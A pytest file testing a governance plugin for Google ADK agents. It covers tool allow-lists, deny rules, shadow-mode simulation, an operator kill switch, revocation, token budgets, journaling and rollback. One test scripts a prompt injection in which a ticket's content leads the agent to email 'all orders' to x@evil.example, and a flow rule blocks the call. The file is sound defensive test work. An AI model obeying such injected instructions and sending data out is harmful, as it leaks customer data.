"""An ADK agent's tool calls, governed through the Runner plugin, in ADK's real run loop."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest

pytest.importorskip("google.adk", reason="the adk extra is not installed")

from google.adk.agents import LlmAgent

from charter import Journal
from charter.errors import ConfigError
from charter.integrations.adk import charter_agent, tool_responses
from charter.runtime import Controls
from charter.runtime._rollback import rollback
from databases import fresh_url
from integrations.adk.adk_world import (
    ask,
    new_session,
    ran,
    responses,
    run_turn,
    shop,
    shop_charter,
    undone,
)


@pytest.fixture(params=["sqlite", "postgresql"])
def journal(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Journal]:
    ran.clear()
    undone.clear()
    yield Journal(fresh_url(str(request.param), tmp_path))


def _records(journal: Journal, run_id: str) -> list[tuple[str, dict[str, Any]]]:
    return [(r.kind, r.payload) for r in journal.records(run_id)]


def _only_run(journal: Journal) -> str:
    ids = {r.run_id for r in journal.records() if r.kind == "run.started"}
    assert len(ids) == 1, ids
    return ids.pop()


def test_allowed_calls_run_and_are_journaled_then_rolled_back(journal: Journal) -> None:
    runner, plugin, _ = shop(
        journal,
        [
            ("lookup_order", {"order_id": 1042}),
            ("refund_order", {"order_id": 1042, "amount": 42.0}),
            "Refunded order 1042.",
        ],
    )
    session = new_session(runner)
    run_turn(runner, session, ask("refund order 1042 if it is damaged"))
    assert [name for name, _ in ran] == ["lookup_order", "refund_order"]
    run_id = _only_run(journal)
    records = _records(journal, run_id)
    kinds = [k for k, _ in records]
    assert kinds[0] == "run.started" and kinds[-1] == "run.finished"
    assert records[0][1]["goal"] == "refund order 1042 if it is damaged"
    effects = [p for k, p in records if k == "step.effect"]
    assert [(e["tool"], e["status"]) for e in effects] == [
        ("lookup_order", "ok"),
        ("refund_order", "ok"),
    ]
    assert effects[1]["result"] == "refunded 42.00 on order 1042"
    finished = records[-1][1]
    assert finished["status"] == "completed" and finished["answer"] == "Refunded order 1042."
    assert plugin.run_id(session) is None  # finished: the next task opens a new run
    assert journal.verify().ok
    report = rollback(journal, plugin.agent, run_id, actor="ops")
    assert {i.tool: i.outcome for i in report.items} == {"refund_order": "compensated"}
    assert undone == [1042]


def test_a_tool_the_charter_does_not_name_is_denied_and_the_model_sees_why(
    journal: Journal,
) -> None:
    runner, _, model = shop(journal, [("drop_orders", {}), "I may not."])
    run_turn(runner, new_session(runner), ask("clean up"))
    assert ran == []
    seen = tool_responses(model.requests[-1])
    assert len(seen) == 1 and seen[0]["error"].startswith("charter denied drop_orders")
    kinds = [k for k, _ in _records(journal, _only_run(journal))]
    assert "step.effect" not in kinds and kinds[-1] == "run.finished"


def test_a_rule_denial_reaches_the_model_as_the_tools_error(journal: Journal) -> None:
    charter = shop_charter(
        rules=[{"id": "no-mail", "effect": "deny", "tools": ["send_email"], "reason": "no mail"}]
    )
    runner, _, model = shop(
        journal, [("send_email", {"to": "kim@example.com", "body": "hi"}), "ok"], charter
    )
    events = run_turn(runner, new_session(runner), ask("write to kim"))
    assert ran == []
    error = responses(events)["send_email"]["error"]
    assert "no-mail" in error and "no mail" in error
    assert tool_responses(model.requests[-1]) == [{"error": error}]


def test_in_the_shadow_phase_a_write_is_simulated_and_the_model_is_told_so(
    journal: Journal,
) -> None:
    refund = ("refund_order", {"order_id": 1042, "amount": 42.0})
    runner, _, _ = shop(journal, [refund, "Refunded."], shop_charter(phase="shadow"))
    events = run_turn(runner, new_session(runner), ask("refund order 1042"))
    assert ran == []
    seen = responses(events)["refund_order"]
    assert seen["simulated"] is True and "error" not in seen
    effects = [p for k, p in _records(journal, _only_run(journal)) if k == "step.effect"]
    assert [e["status"] for e in effects] == ["simulated"]


def test_an_injected_target_from_a_tool_output_is_held_by_the_flow_rule(
    journal: Journal,
) -> None:
    runner, _, model = shop(
        journal,
        [
            ("read_ticket", {"ticket": 88}),
            ("send_email", {"to": "x@evil.example", "body": "all orders"}),
            "Done.",
        ],
    )
    run_turn(runner, new_session(runner), ask("answer ticket 88"))
    assert [name for name, _ in ran] == ["read_ticket"]
    seen = tool_responses(model.requests[-1])
    assert "flow.untrusted-target" in seen[-1]["error"]
    decided = [p for k, p in _records(journal, _only_run(journal)) if k == "step.decided"]
    assert "flow.untrusted-target" in decided[-1]["rules"]


def test_the_kill_switch_stops_a_running_agent_at_its_next_call(journal: Journal) -> None:
    from integrations.adk import adk_world

    def lookup_then_pause(order_id: int) -> dict[str, Any]:
        Controls(journal).pause("shop", actor="ops", reason="incident 7")  # an operator, meanwhile
        return adk_world.lookup_order(order_id)

    runner, _, model = shop(
        journal,
        [
            ("lookup_order", {"order_id": 1}),
            ("lookup_order", {"order_id": 2}),
            ("lookup_order", {"order_id": 3}),
            "done",
        ],
    )
    agent = runner.app.root_agent  # type: ignore[union-attr]
    assert isinstance(agent, LlmAgent)
    tools: list[Any] = cast(Any, agent).tools  # ADK types its tools with a bare Callable
    tool = next(t for t in tools if getattr(t, "__name__", "") == "lookup_order")
    tools[tools.index(tool)] = _renamed(lookup_then_pause, "lookup_order")
    events = run_turn(runner, new_session(runner), ask("look orders up"))
    assert [args for _, args in ran] == [{"order_id": 1}]
    assert "incident 7" in responses(events)["lookup_order"]["error"]
    assert len(model.requests) == 2  # the model was not asked again: the agent stopped
    finished = _records(journal, _only_run(journal))[-1]
    assert finished[0] == "run.finished" and finished[1]["status"] == "stopped"


def _renamed(fn: Any, name: str) -> Any:
    fn.__name__ = name
    return fn


def test_a_revoked_tool_is_denied_from_its_next_call(journal: Journal) -> None:
    from integrations.adk import adk_world

    def lookup_then_revoke(order_id: int) -> dict[str, Any]:
        Controls(journal).revoke("refund_order", actor="ops", reason="incident 9")
        return adk_world.lookup_order(order_id)

    runner, _, model = shop(
        journal,
        [
            ("lookup_order", {"order_id": 1}),
            ("refund_order", {"order_id": 1, "amount": 5.0}),
            "could not refund",
        ],
    )
    agent = runner.app.root_agent  # type: ignore[union-attr]
    assert isinstance(agent, LlmAgent)
    cast(Any, agent).tools[0] = _renamed(lookup_then_revoke, "lookup_order")
    run_turn(runner, new_session(runner), ask("refund order 1"))
    assert [name for name, _ in ran] == ["lookup_order"]
    error = tool_responses(model.requests[-1])[-1]["error"]
    assert "inventory.revoked" in error and "incident 9" in error


def test_replay_and_policy_explain_work_on_an_adk_run(journal: Journal) -> None:
    import io

    from rich.console import Console

    from charter.cli._policy import explain
    from charter.runtime._replay import replay

    runner, plugin, _ = shop(
        journal, [("lookup_order", {"order_id": 1}), ("drop_orders", {}), "done"]
    )
    run_turn(runner, new_session(runner), ask("look order 1 up"))
    run_id = _only_run(journal)
    steps = replay(journal, plugin.agent, run_id)
    assert [s.changed for s in steps][:1] == [False]
    out = io.StringIO()
    explain(Console(file=out, width=200), journal, run_id, 1)
    assert "lookup_order" in out.getvalue()


def test_model_usage_counts_against_the_token_budget(journal: Journal) -> None:
    runner, _, model = shop(
        journal,
        [("lookup_order", {"order_id": 1}), ("lookup_order", {"order_id": 2}), "done"],
        shop_charter(budgets={"max_tokens": 100}),
    )
    events = run_turn(runner, new_session(runner), ask("look orders up"))
    assert [args for _, args in ran] == [{"order_id": 1}]  # 120 tokens so far > 100
    assert "budget" in responses(events)["lookup_order"]["error"]
    records = _records(journal, _only_run(journal))
    proposed = [p for k, p in records if k == "step.proposed"]
    assert proposed[0]["tokens"] == {"prompt": 100, "completion": 20}
    assert proposed[0]["model"] == "scripted"
    assert any(k == "budget.exceeded" for k, _ in records)
    assert len(model.requests) == 2


def test_parallel_calls_of_one_turn_are_governed_one_at_a_time(journal: Journal) -> None:
    runner, _, _ = shop(
        journal,
        [
            [
                ("lookup_order", {"order_id": 1}),
                ("drop_orders", {}),
                ("lookup_order", {"order_id": 2}),
            ],
            "done",
        ],
    )
    run_turn(runner, new_session(runner), ask("look orders up"))
    assert sorted(args.get("order_id", 0) for _, args in ran) == [1, 2]
    records = _records(journal, _only_run(journal))
    assert sum(1 for k, _ in records if k == "step.effect") == 2
    assert records[-1][1]["status"] == "completed" and journal.verify().ok


def test_a_tool_that_raises_is_journaled_as_an_error(journal: Journal) -> None:
    runner, plugin, _ = shop(journal, [("refund_order", {"order_id": 1, "amount": -5}), "x"])
    session = new_session(runner)
    with pytest.raises(ValueError, match="cannot refund"):  # ADK re-raises a tool's error
        run_turn(runner, session, ask("refund"))
    records = _records(journal, _only_run(journal))
    effects = [p for k, p in records if k == "step.effect"]
    assert [e["status"] for e in effects] == ["error"] and "cannot refund" in effects[0]["error"]
    assert records[-1][1]["status"] == "failed" and plugin.run_id(session) is None


def test_each_task_of_a_session_is_its_own_run(journal: Journal) -> None:
    runner, plugin, _ = shop(journal, [("lookup_order", {"order_id": 1}), "done"])
    session = new_session(runner)
    run_turn(runner, session, ask("first"))
    run_turn(runner, session, ask("second"))
    goals = [r.payload["goal"] for r in journal.records() if r.kind == "run.started"]
    assert goals == ["first", "second"] and plugin.run_id(session) is None


def test_a_charter_naming_a_tool_the_agent_lacks_is_refused() -> None:
    agent = LlmAgent(name="a", model="scripted", tools=[])
    with pytest.raises(ConfigError, match="lookup_order"):
        charter_agent(agent, shop_charter())


def test_compensation_for_a_tool_the_charter_does_not_name_is_refused() -> None:
    from integrations.adk import adk_world

    agent = LlmAgent(name="a", model="scripted", tools=[adk_world.lookup_order])
    charter = shop_charter(contracts={"lookup_order": {}})
    with pytest.raises(ConfigError, match="drop_orders"):
        charter_agent(agent, charter, compensate={"drop_orders": adk_world.undo_refund})


def test_the_tools_of_sub_agents_are_governed_too() -> None:
    from integrations.adk import adk_world

    helper = LlmAgent(name="helper", model="scripted", tools=[adk_world.refund_order])
    root = LlmAgent(
        name="root", model="scripted", tools=[adk_world.lookup_order], sub_agents=[helper]
    )
    charter = shop_charter(contracts={"lookup_order": {}, "refund_order": {"side_effect": "write"}})
    agent = charter_agent(root, charter)
    assert sorted(t.name for t in agent.inventory) == ["lookup_order", "refund_order"]
    assert agent.inventory.get("refund_order").contract.side_effect == "write"


def test_a_tool_declared_with_a_gemini_schema_gets_its_json_schema() -> None:
    from google.adk.tools.base_tool import BaseTool
    from google.genai import types

    from charter.integrations.adk import args_schema

    class Declared(BaseTool):
        def _get_declaration(self) -> types.FunctionDeclaration | None:
            return types.FunctionDeclaration(
                name=self.name,
                parameters=types.Schema(
                    type=types.Type.OBJECT,
                    properties={"to": types.Schema(type=types.Type.STRING)},
                    required=["to"],
                ),
            )

    schema = args_schema(Declared(name="notify", description="notify someone"))
    assert schema == {
        "type": "object",
        "properties": {"to": {"type": "string"}},
        "required": ["to"],
    }
    assert args_schema(BaseTool(name="bare", description="no declaration")) is None
